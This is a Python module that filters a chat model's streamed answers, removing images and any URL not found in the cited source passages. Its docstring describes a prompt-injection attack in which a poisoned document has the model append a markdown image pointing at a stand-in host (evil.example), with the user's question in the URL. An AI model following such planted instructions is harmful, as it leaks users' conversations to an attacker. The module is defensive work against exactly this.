"""No answer carries an image, or a URL its sources do not contain.

A poisoned document can ask the model to end its answer with a markdown image
whose URL carries the conversation (``![](https://evil.example/?q=<question>)``):
rendering it would send the data off without a click. So, in every answer:

- markdown images are removed, whatever their URL (answers never show images;
  the Content-Security-Policy would block external ones anyway);
- a link or bare URL stays only if the very URL appears in the passages: while
  streaming, any passage given to the model; in the final answer, a cited one.
  A markdown link that fails keeps its text, a bare URL becomes "(link removed)".

URLs are compared exactly (after trimming trailing punctuation), so an allowed
address with data appended is a different, refused URL.

``LinkGuard`` applies this to a stream: text that could still turn into a link
(an unclosed ``[``, a URL not yet ended by a space) is held back until it is
complete, so no part of a refused URL ever reaches the reader.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

REMOVED = "(link removed)"

# A URL: scheme, protocol-relative or www-prefixed, up to whitespace or markdown/HTML
# punctuation that cannot be part of it here.
_URL = r"(?:(?:https?|ftp):)?//[^\s<>()\[\]\"'`]+|www\.[^\s<>()\[\]\"'`]+"
_URL_RE = re.compile(_URL, re.IGNORECASE)
_IMAGE_RE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK_RE = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"]*\")?\s*\)")
_AUTOLINK_RE = re.compile(r"<((?:https?|ftp)://[^\s<>]+)>", re.IGNORECASE)
_HTML_MEDIA_RE = re.compile(r"<\s*(?:img|image|picture|source|video|audio|iframe)\b[^>]*>?",
                            re.IGNORECASE)  # fmt: skip
_TRAILING = ".,;:!?'\")]}*_"
_SCHEME_PREFIXES = ("https://", "http://", "ftp://", "www.", "//")
_HOLD_LIMIT = 2000  # characters: a stream is never held back longer than this


def _normalised(url: str) -> str:
    return url.rstrip(_TRAILING).lower()


def urls_in(texts: Iterable[str]) -> frozenset[str]:
    """Every URL the given texts contain (normalised), what answers may repeat."""
    return frozenset(_normalised(m.group()) for text in texts for m in _URL_RE.finditer(text))


def _allowed(url: str, allowed: frozenset[str]) -> bool:
    return bool(url) and _normalised(url) in allowed


def links_strip(text: str, allowed: frozenset[str]) -> str:
    """``text`` without images and without URLs outside ``allowed``."""
    text = _HTML_MEDIA_RE.sub("", text)
    text = _IMAGE_RE.sub("", text)

    def link(match: re.Match[str]) -> str:
        label, url = match.group(1), match.group(2)
        if not url.startswith(("http", "//", "www", "ftp")) and ":" not in url:
            return match.group()  # a relative link (to this site): nothing leaves
        return match.group() if _allowed(url, allowed) else label

    # Links first, with a placeholder for the kept ones so the bare-URL pass skips them.
    kept: list[str] = []

    def keep(match: re.Match[str]) -> str:
        result = link(match)
        if result == match.group():
            kept.append(result)
            return f"\x00{len(kept) - 1}\x00"
        return result

    text = _LINK_RE.sub(keep, text)
    text = _AUTOLINK_RE.sub(lambda m: m.group() if _allowed(m.group(1), allowed) else REMOVED, text)

    def bare(match: re.Match[str]) -> str:
        url = match.group()
        core = url.rstrip(_TRAILING)
        if _allowed(core, allowed):
            return url
        return REMOVED + url[len(core) :]

    text = _URL_RE.sub(bare, text)
    return re.sub(r"\x00(\d+)\x00", lambda m: kept[int(m.group(1))], text)


class LinkGuard:
    """``links_strip`` for a stream: ``feed`` returns what can be shown now, ``flush``
    the rest at the end."""

    def __init__(self, allowed: frozenset[str]) -> None:
        self.allowed = allowed
        self._held = ""

    def feed(self, text: str) -> str:
        pending = self._held + text
        cut = _hold_from(pending)
        if len(pending) - cut > _HOLD_LIMIT:
            cut = len(pending)
        self._held = pending[cut:]
        return links_strip(pending[:cut], self.allowed) if cut else ""

    def flush(self) -> str:
        rest, self._held = self._held, ""
        return links_strip(rest, self.allowed)


def _hold_from(text: str) -> int:
    """Where the part that may still become a link or an image starts (len: nothing)."""
    cut = len(text)
    # An unclosed "[" (a link label or "![" in progress), or "](" whose ")" is not here yet.
    bracket = text.rfind("[")
    if bracket != -1:
        tail = text[bracket:]
        closed = "]" in tail and (
            not tail.split("]", 1)[1].startswith("(") or ")" in tail.split("]", 1)[1]
        )
        if not closed or tail.endswith("]"):
            cut = bracket - 1 if bracket > 0 and text[bracket - 1] == "!" else bracket
    if text.endswith("!"):
        cut = min(cut, len(text) - 1)
    # An HTML tag not closed yet ("<img src=…"): it may carry a URL.
    angle = text.rfind("<")
    if angle > text.rfind(">"):
        cut = min(cut, angle)
    # The last word, if it is or may become a URL (no whitespace after it yet).
    word_start = max(text.rfind(c) for c in " \n\t(<") + 1
    word = text[word_start:].lower().lstrip("\"'`*_")
    finished = any(c in word for c in ")]>\"'`")  # a URL cannot go on past these
    if (
        word
        and not finished
        and (
            any(p in word for p in ("://", "www.", "//"))
            or any(p.startswith(word[: len(p)]) for p in _SCHEME_PREFIXES if len(word) < len(p))
        )
    ):
        cut = min(cut, word_start)
    return cut
